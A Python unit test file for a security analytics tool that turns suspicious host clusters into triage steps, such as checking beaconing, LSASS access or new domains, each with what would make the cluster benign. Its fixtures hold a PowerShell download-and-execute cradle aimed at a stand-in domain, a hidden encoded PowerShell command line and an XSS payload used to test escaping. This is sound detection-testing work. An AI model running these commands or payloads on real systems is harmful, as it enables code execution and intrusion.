"""Every explanation says what to check next and what would make the cluster benign (task I11).

Unit tests of :func:`analytics.checks.cluster_checks` on hand-built
explanations, members and feature values: one step per contributing feature,
most contributing first, each naming this cluster's values.
"""

from __future__ import annotations

from datetime import UTC, datetime

import numpy as np
import pytest

from analytics.checks import MAX_CHECKS, MAX_VALUE, cluster_checks
from analytics.explain import Explanation, FeatureContribution, explain
from analytics.features import SCORED_FEATURES, ClusterFacts
from analytics.lineage import LineagePair
from analytics.result import Cluster
from graphsiem.model import Entity

T0 = datetime(2026, 11, 1, 9, 58, 20, tzinfo=UTC).timestamp()
HOSTS = [f"ws-{i:04d}" for i in range(22)]
DOMAIN = Entity("domain", "cdn-img-delivery.example", "cdn-img-delivery.example")
URL = Entity("url", "http://cdn-img-delivery.example/img/banner.png", "http://cdn-img-delivery.example/img/banner.png")
DECODED = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/img/banner.png') <b>x</b>\n" + "A" * 200
CRADLE = Entity("process", "cradle", "powershell.exe -nop -w hidden -enc SQBFAFgA",
                {"image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "decoded_command": DECODED})
LSASS = Entity("process", "lsass", r"C:\Windows\System32\lsass.exe", {"image": r"C:\Windows\System32\lsass.exe"})
IP = Entity("ip", "199.162.53.145", "199.162.53.145")
MEMBERS = [DOMAIN, URL, CRADLE, LSASS, IP]
PAIR = LineagePair("wscript.exe", "powershell.exe", 22, T0)
CONTEXT = {"first_contact_range_min": 8.6, "first_contact_spread_raw_min": 4.1, "repeat_contacts_raw": 288.0}


def _explanation(contributions: dict[str, float], *, values: dict[str, float] | None = None,
                 confidence: str = "normal", candidates: int | None = 40,
                 lineage: tuple[LineagePair, ...] = (PAIR,), members: list[Entity] = MEMBERS) -> Explanation:
    values = values or {}
    rows = sorted(
        (FeatureContribution(n, values.get(n, 1.0), 0.0, contributions.get(n, 0.0)) for n in SCORED_FEATURES),
        key=lambda r: (-r.contribution, r.name),
    )
    return Explanation("summary", tuple(rows), confidence, lineage=lineage,
                       new_members=tuple(e.ref for e in members if e is not LSASS), candidates=candidates)


def _checks(contributions: dict[str, float], *, pivot: Entity = DOMAIN, members: list[Entity] | None = None,
            features: dict[str, float] | None = None, **kwargs):
    values = {"burst_hosts": 22.0, "first_contact_spread_min": 4.1, **(features or {})}
    members = members or MEMBERS
    return cluster_checks(
        _explanation(contributions, values=values, members=members, **kwargs),
        pivot=pivot, entities=members, hosts=HOSTS, first_seen=T0,
        features={**values, **CONTEXT},
    )


def test_synchronised_first_contact_names_the_pivot_the_hosts_and_the_time_to_search():
    (step,) = _checks({"burst_hosts": 0.2, "first_contact_spread_min": 0.1})
    assert step.feature == "burst_hosts"  # spread and burst are one step, under the larger
    assert "22 hosts first contacted domain cdn-img-delivery.example within 9 minutes" in step.check
    assert "2026-11-01 09:58–10:07Z" in step.check
    assert "ws-0000, ws-0001, ws-0002 and 19 more" in step.check
    assert "deployment" in step.benign_if


@pytest.mark.parametrize(("feature", "in_check", "in_benign_if"), [
    # The domain and the download; registration age and reputation; a vendor's CDN is benign.
    ("download_from_new_domain", ["new domain cdn-img-delivery.example (http://cdn-img-delivery.example/img/banner.png)",
                                  "registration age"], ["cdn-img-delivery.example is an established vendor"]),
    # The process that opened LSASS, not lsass.exe itself; a signed EDR/AV/backup agent is benign.
    ("lsass_access", ["confirm it was powershell.exe, the cluster's new process", "Sysmon event 10"], ["signed EDR"]),
    ("remote_thread", ["among powershell.exe", "Sysmon event 8"], ["signed security"]),
    # The parent -> child pair; the parent being an installer or management agent is benign.
    # wscript.exe is Windows' script host: what it ran is the question, not what it is (review R4, finding 3).
    ("interpreter_lineage", ["New parent → child wscript.exe → powershell.exe", "built-in Windows program",
                             "check the script it ran"], ["the script is one your administrators"]),
    # kinds of member, not sensors: the graph does not record which sensor saw what
    ("source_kinds", ["activity on the hosts (powershell.exe) and an external destination (cdn-img-delivery.example)"],
     ["its own vendor"]),
    # Beaconing: the rate, the interval to check for regularity; a documented updater is benign.
    ("repeat_contacts", ["about 288 times a day (about every 5 minutes)", "intervals are regular"], ["known updater"]),
])
def test_each_contributing_feature_gets_a_step_naming_the_cluster_values(feature, in_check, in_benign_if):
    (step,) = _checks({feature: 0.3})
    assert step.feature == feature
    assert all(text in step.check for text in in_check), step.check
    assert all(text in step.benign_if for text in in_benign_if), step.benign_if
    assert "lsass.exe did" not in step.check


def test_encoded_command_quotes_the_decoded_command_cut_to_one_line_of_80_characters():
    (step,) = _checks({"encoded_command": 0.3})
    assert "powershell.exe runs an encoded PowerShell command" in step.check
    quoted = step.check.split('"')[1]
    assert quoted.startswith("IEX (New-Object Net.WebClient).DownloadString(")
    assert len(quoted) == MAX_VALUE and quoted.endswith("…")
    assert "\n" not in step.check
    assert "GET /v1/entities?q=" in step.check


def test_attacker_markup_stays_literal_text():
    hostile = Entity("process", "h", "powershell -enc AAAA",
                     {"image": "powershell.exe", "decoded_command": "<img src=x onerror=alert(1)>"})
    (step,) = _checks({"encoded_command": 0.3}, members=[DOMAIN, hostile])
    assert '"<img src=x onerror=alert(1)>"' in step.check


def test_steps_follow_the_contributions_and_skip_features_that_did_not_raise_the_risk():
    steps = _checks({"lsass_access": 0.1, "encoded_command": 0.3, "repeat_contacts": 0.0, "remote_thread": -0.2})
    assert [s.feature for s in steps] == ["encoded_command", "lsass_access"]


def test_at_most_six_steps():
    steps = _checks({name: 0.1 + i / 100 for i, name in enumerate(SCORED_FEATURES)}, confidence="low", candidates=3)
    assert len(steps) == MAX_CHECKS
    assert steps[-1].feature is None and "only 3 new clusters" in steps[-1].check


def test_a_driver_pivot_gets_a_step_with_its_digest():
    digest = "16b7846f748e93a8d7b70e4e5ddb4901446e0a442232e13db2e39d2c0e7396f9"
    driver = Entity("file", r"c:\windows\temp\rtcore64.sys", r"C:\Windows\Temp\RTCore64.sys", {"service": "NpoceaaE"})
    by_hash = Entity("file", digest, r"C:\Windows\Temp\RTCore64.sys")
    steps = _checks({"burst_hosts": 0.2}, pivot=driver, members=[driver, by_hash])
    assert [s.feature for s in steps] == ["burst_hosts", None]
    assert "installed as a driver (service NpoceaaE)" in steps[1].check and digest in steps[1].check
    assert "vulnerable drivers" in steps[1].check


def test_a_service_command_pivot_gets_a_step_on_who_created_it():
    service = Entity("process", "svc", "cmd.exe /c x", {"service": "Upd"})
    steps = _checks({"burst_hosts": 0.2}, pivot=service, members=[service])
    assert "installed as a service" in steps[1].check and "7045" in steps[1].check


def test_a_cluster_no_feature_sets_apart_gets_one_step_about_a_deployment():
    rollout = Entity("domain", "deploy.corp.example", "deploy.corp.example")
    pair = LineagePair("deployagent.exe", "msiexec.exe", 44, T0)
    (step,) = _checks({}, pivot=rollout, members=[rollout], lineage=(pair,))
    assert step.feature is None
    assert "deploy.corp.example" in step.check and "deployagent.exe → msiexec.exe" in step.check
    assert "deployment" in step.benign_if


def test_explain_carries_the_lineage_and_new_members_the_steps_quote_and_a_cluster_fills_them_in():
    facts = ClusterFacts({n: 0.0 for n in SCORED_FEATURES}, [PAIR], [PAIR], [], [CRADLE.ref, DOMAIN.ref], dict(CONTEXT))
    contribution = np.zeros(len(SCORED_FEATURES))
    contribution[SCORED_FEATURES.index("interpreter_lineage")] = 0.2
    explanation = explain(facts, contribution, np.zeros(len(SCORED_FEATURES)), pivot_type="domain",
                          pivot_value=DOMAIN.value, host_count=len(HOSTS), pivot_is_new=True, candidates=40)
    assert explanation.lineage == (PAIR,) and explanation.new_members == (CRADLE.ref, DOMAIN.ref)
    assert explanation.checks == ()
    cluster = Cluster("c", DOMAIN, 90.0, HOSTS, MEMBERS, T0, T0 + 600, dict(CONTEXT), explanation)
    contract = cluster.to_contract()["explanation"]
    assert contract["summary"] == explanation.summary
    assert [c["feature"] for c in contract["checks"]] == ["interpreter_lineage"]
    assert set(contract["checks"][0]) == {"feature", "check", "benign_if"}
    assert "wscript.exe → powershell.exe" in contract["checks"][0]["check"]


def test_steps_are_deterministic():
    contributions = {name: 0.1 for name in SCORED_FEATURES}
    assert _checks(contributions) == _checks(contributions)
